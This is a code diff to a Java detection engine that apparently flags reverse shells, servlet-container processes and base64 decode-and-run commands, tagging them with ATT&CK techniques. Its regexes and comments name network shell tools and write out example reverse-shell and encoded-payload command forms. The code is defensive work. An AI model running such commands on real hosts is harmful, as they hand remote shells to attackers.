@@ -1,7 +1,11 @@
 package io.sightline.engine;
 
+import java.nio.charset.StandardCharsets;
+import java.util.Base64;
 import java.util.Locale;
+import java.util.Optional;
 import java.util.Set;
+import java.util.regex.Matcher;
 import java.util.regex.Pattern;
 
 /**
@@ -43,6 +47,11 @@ final class Behaviours {
     static final Technique APP_LAYER_PROTOCOL =
             new Technique("T1071", "Application Layer Protocol", Tactic.COMMAND_AND_CONTROL);
 
+    static final Technique NON_APP_LAYER_PROTOCOL =
+            new Technique("T1095", "Non-Application Layer Protocol", Tactic.COMMAND_AND_CONTROL);
+    static final Technique DEOBFUSCATE =
+            new Technique("T1140", "Deobfuscate/Decode Files or Information", Tactic.DEFENSE_EVASION);
+
     static final Technique CONTAINER_ADMIN_COMMAND =
             new Technique("T1609", "Container Administration Command", Tactic.EXECUTION);
 
@@ -59,6 +68,15 @@ final class Behaviours {
     /** They start shells by design: a login is not an exploit. */
     private static final Set<String> LOGIN_SERVICES =
             Set.of("sshd", "dropbear", "telnetd", "login", "su", "sudo", "runuser", "systemd", "init");
+
+    /** Markers of a servlet container or Spring Boot in a JVM's arguments (class names, paths). */
+    private static final Pattern SERVLET_CONTAINER =
+            Pattern.compile("catalina|tomcat|jetty|wildfly|jboss|org\\.springframework\\.boot");
+    /** Bash's network redirections, and netcat handing a shell to the connection. */
+    private static final Pattern REVERSE_SHELL =
+            Pattern.compile("/dev/(tcp|udp)/[^/\\s]+/\\d+|\\bn(c|cat)\\b.*\\s-[ec]\\s*\\S*sh\\b");
+
+    private static final Pattern BASE64_BLOB = Pattern.compile("[A-Za-z0-9+/]{16,}={0,2}");
 
     private static final Set<String> DOWNLOADERS = Set.of("curl", "wget", "fetch", "tftp");
     private static final Set<String> USER_DISCOVERY_TOOLS = Set.of("id", "whoami", "uname", "hostname", "w");
@@ -118,7 +136,47 @@ final class Behaviours {
         if (LOGIN_SERVICES.contains(node.name())) {
             return false;
         }
-        return node.acceptedInbound || WEB_SERVERS.contains(node.name());
+        return node.acceptedInbound || WEB_SERVERS.contains(node.name()) || isServletContainer(node);
+    }
+
+    /**
+     * A JVM that runs a servlet container (Tomcat's {@code catalina}, Jetty, WildFly/JBoss) or a
+     * Spring Boot application serves requests even when no sensor reported an accept: neither
+     * auditd (execs only) nor Sysmon for Linux (no inbound event in its default config) does.
+     */
+    static boolean isServletContainer(ProcessNode node) {
+        return node.name().equals("java")
+                && SERVLET_CONTAINER
+                        .matcher(node.arguments.toLowerCase(Locale.ROOT))
+                        .find();
+    }
+
+    /** A command that hands a shell to a network connection ({@code bash -i >& /dev/tcp/h/p 0>&1}). */
+    static boolean isReverseShell(String command) {
+        return REVERSE_SHELL.matcher(command).find();
+    }
+
+    /**
+     * The payload of a command that decodes base64 to run it ({@code echo QmFz… | base64 -d | bash},
+     * {@code {echo,QmFz…}|{base64,-d}|{bash,-i}}): the decoded text of its first blob that is
+     * printable ASCII.
+     */
+    static Optional<String> decodedPayload(ProcessNode node) {
+        if (!node.arguments.contains("base64")) {
+            return Optional.empty();
+        }
+        Matcher blob = BASE64_BLOB.matcher(node.arguments);
+        while (blob.find()) {
+            try {
+                String text = new String(Base64.getDecoder().decode(blob.group()), StandardCharsets.US_ASCII);
+                if (text.chars().allMatch(c -> c == '\n' || c == '\t' || (c >= 0x20 && c < 0x7f))) {
+                    return Optional.of(text.strip());
+                }
+            } catch (IllegalArgumentException notBase64) {
+                // A path or a word that only looks like base64: try the next one.
+            }
+        }
+        return Optional.empty();
     }
 
     static boolean isDownloader(ProcessNode node) {
